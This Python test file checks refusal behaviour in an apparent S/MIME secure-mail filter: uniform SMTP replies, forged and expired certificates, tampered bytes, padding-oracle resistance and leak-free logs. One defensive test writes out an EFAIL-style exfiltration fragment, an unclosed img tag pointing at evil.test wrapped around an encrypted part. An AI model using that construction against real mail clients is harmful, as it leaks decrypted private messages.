"""Every refusal, made to happen through SMTP and found in audit; before a signature has verified the peer
sees the same bytes for everything."""
import base64
import os
import re
import unittest

from harness import smime
from harness.base import read, write
from harness.site import HERE, THERE, SiteTest
from harness.smime import Sealing

UNIFORM = "554 5.7.1 direct: not-accepted"


def reseal(message, der):
    """The same outside with another CMS inside."""
    head, _ = smime.split(message)
    text = base64.b64encode(der)
    return head + b"\r\n" + b"".join(text[i:i + 64] + b"\r\n" for i in range(0, len(text), 64))


def flip(data, at):
    return data[:at] + bytes([data[at] ^ 0x40]) + data[at + 1:]


class Refusals(SiteTest):
    domain = {"mailboxes": "listed", "listed": ["alice", "carol"]}
    sections = {"policy": {"tampered": "refuse"}}
    peers = ({"domain": "direct.wrapped.test", "accept_unwrapped": False},)

    @classmethod
    def make_certificates(cls):
        super().make_certificates()
        pki = cls.pki
        cls.stranger_ca = pki.root("stranger-ca")
        cls.stranger_bob = pki.end("stranger-bob", cls.stranger_ca, email=f"bob@{THERE}")
        cls.expired_bob = pki.end("expired-bob", cls.there_ca, email=f"bob@{THERE}", start=-20, end=-1)
        cls.future_bob = pki.end("future-bob", cls.there_ca, email=f"bob@{THERE}", start=2, end=20)
        cls.weak_bob = pki.end("weak-bob", cls.there_ca, email=f"bob@{THERE}", kind="rsa1024")
        cls.encrypt_bob = pki.end("encrypt-bob", cls.there_ca, email=f"bob@{THERE}", usage="encrypt")
        cls.server_bob = pki.end("server-bob", cls.there_ca, email=f"bob@{THERE}", eku="serverAuth")
        cls.mallory = pki.end("mallory", cls.there_ca, email=f"mallory@{THERE}")
        cls.sub = pki.end("sub", cls.there_ca, dns=f"x.{THERE}")
        cls.mid = pki.intermediate("mid", cls.there_ca)
        cls.mid_bob = pki.end("mid-bob", cls.mid, email=f"bob@{THERE}")
        cls.forged_bob = pki.forgery("forged-bob", cls.there_ca, email=f"bob@{THERE}")
        cls.forged_ca = pki.forgery("forged-ca", cls.there_ca, authority=True)
        cls.forged_end = pki.end("forged-end", cls.forged_ca, email=f"bob@{THERE}")
        cls.wrapped = pki.end("wrapped", cls.there_ca, dns="direct.wrapped.test")
        cls.sha1_ca = pki.intermediate("sha1-ca", cls.there_ca, digest="sha1")
        cls.sha1_bob = pki.end("sha1-bob", cls.sha1_ca, email=f"bob@{THERE}")

    def refuses(self, message, token, reply=None, to=f"alice@{HERE}", **more):
        outcome = self.inbound(message, to, **more)
        self.refused(outcome, token, reply)
        self.nothing_delivered(f"alice@{HERE}")
        return outcome.last

    # --- before a signature has verified: one answer -------------------------------------------------

    def early_messages(self):
        inner, good = self.from_bob()
        entity = smime.signed_entity(smime.wrap(inner), [self.bob])
        der = smime.body_der(good)
        garbage = b"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\r\n\r\nnot parts"
        wrong_signature = entity.replace(b"Hello.", b"Jello.")
        yield "no-key", self.from_bob(recipients=[self.bob])[1]
        yield "cannot-decrypt", reseal(good, flip(der, len(der) - 20))
        yield "cannot-decrypt", smime.sealed(inner, [self.bob], [self.alice], Sealing(cipher="des3"))
        yield "not-signed", smime.sealed(inner, [], [self.alice])
        yield "bad-signature", smime.outer(inner, smime.pkcs7_mime(smime.cms_encrypt(wrong_signature, [self.alice]),
                                                                   "enveloped-data"))
        yield "no-sender-certificate", smime.sealed(inner, [self.bob], [self.alice], Sealing(with_certificates=False))
        yield "malformed", smime.outer(inner, smime.pkcs7_mime(smime.cms_encrypt(garbage, [self.alice]),
                                                               "enveloped-data"))
        yield "malformed", reseal(good, der[:200])
        yield "malformed", reseal(good, b"")

    def test_early_refusals_are_byte_identical(self):
        seen = set()
        for token, message in self.early_messages():
            with self.subTest(token):
                seen.add(self.refuses(message, token, UNIFORM))
        self.assertEqual(len(seen), 1, seen)

    def test_flipped_bytes_say_nothing(self):
        """A flipped byte is refused like everything else, or it hit the MIME frame around what is signed: then
        what arrives is exactly what was signed."""
        inner, good = self.from_bob()
        der = smime.body_der(good)
        taken = 0
        for at in range(30, len(der), max(1, len(der) // 40)):
            with self.subTest(at):
                outcome = self.inbound(reseal(good, flip(der, at)))
                if outcome.accepted:
                    taken += 1
                    continue
                self.assertEqual(outcome.last.decode().rstrip(), UNIFORM)
        self.assertLess(taken, 10)
        if taken:   # repeats of one signed message: delivered once
            got = self.delivered()
            self.assertEqual(len(got), 1)
            self.assertTrue(got[0].replace(b"\n", b"\r\n").endswith(smime.split(inner)[1]))
            self.postfix.wait_queue_empty()
            self.postfix.empty_mailboxes()

    # --- plain ----------------------------------------------------------------------------------------

    def test_plain(self):
        mail = smime.mail(f"bob@{THERE}", f"alice@{HERE}")
        self.refuses(mail, "not-encrypted",
                     "550 5.7.1 direct: not-encrypted (this address takes only encrypted Direct messages)")

    def test_signed_only(self):
        inner = smime.mail(f"bob@{THERE}", f"alice@{HERE}")
        self.refuses(smime.signed(inner, [self.bob]), "not-encrypted")
        self.refuses(smime.signed(inner, [self.bob], Sealing(opaque=True)), "not-encrypted")

    def test_an_encrypted_part_inside_something_else_is_never_opened(self):
        _, good = self.from_bob(text="EXFILTRATE\n")
        head, body = smime.split(good)
        part = b"".join(n.encode() + b": " + v + b"\r\n" for n, v in smime.fields(good)
                        if n.lower().startswith("content-")) + b"\r\n" + body
        mixed = smime.outer(smime.mail(f"bob@{THERE}", f"alice@{HERE}"),
                            b'Content-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\nContent-Type: text/html\r\n\r\n'
                            b'<img src="http://evil.test/\r\n--q\r\n' + part + b"--q--\r\n")
        self.refuses(mixed, "not-encrypted")

    # --- after it: the token --------------------------------------------------------------------------

    def late(self, signer, token, code, extra=(), **mail):
        inner, message = self.from_bob(signers=[signer], how=Sealing(extra_certificates=tuple(extra)), **mail)
        return self.refuses(message, token, f"554 {code} direct: {token}")

    def test_expired(self):
        self.late(self.expired_bob, "expired", "5.7.5")

    def test_not_yet_valid(self):
        self.late(self.future_bob, "not-yet-valid", "5.7.5")

    def test_weak_key(self):
        self.late(self.weak_bob, "weak-key", "5.7.5")

    def test_bad_usage(self):
        self.late(self.encrypt_bob, "bad-usage", "5.7.5")
        self.late(self.server_bob, "bad-usage", "5.7.5")

    def test_sender_mismatch(self):
        self.late(self.mallory, "sender-mismatch", "5.7.7")

    def test_sub_domain_is_another_domain(self):
        self.late(self.sub, "sender-mismatch", "5.7.7")

    def test_no_path(self):
        self.late(self.mid_bob, "no-path", "5.7.11")

    def test_untrusted(self):
        self.late(self.stranger_bob, "untrusted", "5.7.11", extra=[self.stranger_ca])

    def test_hole_1_a_strangers_certificate_with_an_anchors_key_identifier(self):
        for signer, extra in ((self.forged_bob, ()), (self.forged_end, (self.forged_ca,))):
            with self.subTest(signer.name):
                inner, message = self.from_bob(signers=[signer], how=Sealing(extra_certificates=extra))
                outcome = self.inbound(message)
                self.assertRegex(outcome.last.decode(), r"^554 5\.7\.11 direct: (untrusted|no-path)\r\n$")
        self.nothing_delivered()

    def test_weak_algorithm(self):
        inner = smime.mail(f"bob@{THERE}", f"alice@{HERE}")
        message = smime.sealed(inner, [self.bob], [self.alice], Sealing(digest="sha1"))
        self.refuses(message, "weak-algorithm", "554 5.7.5 direct: weak-algorithm")
        self.late(self.sha1_bob, "weak-algorithm", "5.7.5", extra=[self.sha1_ca])

    def test_tampered(self):
        inner = smime.mail(f"bob@{THERE}", f"someone@{THERE}")
        self.refuses(smime.sealed(inner, [self.bob], [self.alice]), "tampered", "554 5.6.0 direct: tampered")

    def test_unknown_recipient(self):
        inner, message = self.from_bob(to=f"nobody@{HERE}", recipients=[self.here])
        outcome = self.inbound(message, f"newuser@{HERE}")  # Postfix knows it; the message is no newuser message
        self.assertEqual(outcome.code, 554)
        self.postfix.mailboxes.append(f"nobody@{HERE}")
        self.postfix._table("mailboxes", {a: f"{a}/" for a in self.postfix.mailboxes})
        from harness.base import run
        run(["postfix", "-c", self.postfix.config, "reload"])
        from harness.base import until

        def refused():
            o = self.inbound(message, f"nobody@{HERE}")
            return o.last if b"direct:" in o.last else None
        last = until(refused, "Postfix to know the new mailbox")
        self.assertEqual(last.decode().rstrip(), "550 5.1.1 direct: unknown-recipient")
        self.in_audit("unknown-recipient")

    def test_not_wrapped_where_a_partner_must_wrap(self):
        inner = smime.mail("doc@direct.wrapped.test", f"alice@{HERE}")
        message = smime.sealed(inner, [self.wrapped], [self.alice], Sealing(wrapped=False))
        self.refuses(message, "not-wrapped", "554 5.6.0 direct: not-wrapped")

    def test_two_from_addresses_under_a_good_signature(self):
        inner = smime.mail(f"bob@{THERE}, mallory@{THERE}", f"alice@{HERE}")
        self.refuses(smime.sealed(inner, [self.bob], [self.alice]), "malformed", "554 5.6.0 direct: malformed")

    def test_sender_field_is_held_against_the_certificate_too(self):
        inner = smime.mail(f"bob@{THERE}", f"alice@{HERE}", headers=[("Sender", f"mallory@{THERE}")])
        self.refuses(smime.sealed(inner, [self.bob], [self.alice]), "sender-mismatch")

    # --- nothing of a message in what others can read -------------------------------------------------

    def test_no_health_data_in_logs_replies_or_audit(self):
        mark = "SECRETMARK7261"
        inner = smime.mail(f"bob@{THERE}", f"alice@{HERE}", f"Subject {mark}", f"Body {mark}\n",
                           [(f"{mark}.pdf", "application/pdf", mark.encode())])
        for signer in (self.bob, self.stranger_bob):
            outcome = self.inbound(smime.sealed(inner, [signer], [self.alice]))
            self.assertNotIn(mark.encode(), outcome.last)
        self.delivered()
        self.postfix.empty_mailboxes()
        self.assertNotIn(mark, self.daemon.log())
        self.assertNotIn(mark, self.postfix.log())
        self.assertNotIn(mark, self.daemon.ctl("audit").out)


class KeyTrouble(SiteTest):
    def test_a_key_that_cannot_be_read_makes_no_padding_oracle(self):
        """alice's copy opens while carol's key is damaged: what was decrypted must not show in a 4xx or a 5xx."""
        path = os.path.join(self.daemon.root, "keys", HERE, self.here.fingerprint[:16] + ".key")
        right = read(path)
        to = [f"alice@{HERE}", f"carol@{HERE}"]
        inner, good = self.from_bob(to=to, recipients=[self.alice])
        der = smime.body_der(good)
        unsigned = smime.sealed(inner, [], [self.alice])
        write(path, b"damaged\n")
        try:
            self.daemon.restart()
            self.assertRegex(self.inbound(good, to).last, rb"^4")
            for message in (unsigned, *(reseal(good, flip(der, len(der) - at)) for at in range(1, 200, 13))):
                self.assertEqual(self.inbound(message, to).last.decode().rstrip(), UNIFORM)
        finally:
            write(path, right)
            self.daemon.restart()


class Discard(SiteTest):
    sections = {"policy": {"untrusted": "discard"}}

    def test_untrusted_is_dropped_and_in_audit(self):
        ca = self.pki.root("stranger-ca")
        stranger = self.pki.end("stranger", ca, email=f"bob@{THERE}")
        _, message = self.from_bob(signers=[stranger], how=Sealing(extra_certificates=(ca,)))
        self.assertTrue(self.inbound(message).accepted)
        self.in_audit("untrusted")
        self.nothing_delivered()


class Plain(SiteTest):
    domain = {"plain": "pass"}

    def test_plain_passes_marked_and_forged_marks_go(self):
        mail = smime.mail("a@elsewhere.test", f"alice@{HERE}", headers=[("X-Direct-Trust", "pass; forged")])
        self.accepted(self.inbound(mail, sender="a@elsewhere.test"))
        got = self.delivered()[-1]
        self.assertEqual(smime.field(got, "X-Direct-Trust"), "none")
        self.assertEqual(len(re.findall(rb"(?mi)^X-Direct-Trust:", got)), 1)

    def test_never_to_newuser(self):
        mail = smime.mail("a@elsewhere.test", f"newuser@{HERE}", "jane@example.org")
        self.refused(self.inbound(mail, f"newuser@{HERE}", "a@elsewhere.test"), "not-encrypted")


class TooLarge(SiteTest):
    sections = {"milter": {"message_max": "64K"}}

    def test_too_large(self):
        _, message = self.from_bob(text="x" * 70 + "\n", attachments=[("a", "application/pdf", b"y" * 90000)])
        self.refused(self.inbound(message), "too-large", "552 5.3.4 direct: too-large")


class NoStore(SiteTest):
    """Temporary trouble is 4xx and loses nothing."""
    sections = {"store": {"size_max": "16M", "inline_max": "1M"}, "policy": {"revocation": "hard"}}

    def test_revocation_unknown_is_temporary(self):
        _, message = self.from_bob()
        outcome = self.inbound(message)
        self.assertEqual(outcome.last.decode().rstrip(), "451 4.7.0 direct: temporary trouble, please try again")
        self.in_audit("revocation-unknown")
        self.nothing_delivered()


if __name__ == "__main__":
    unittest.main()
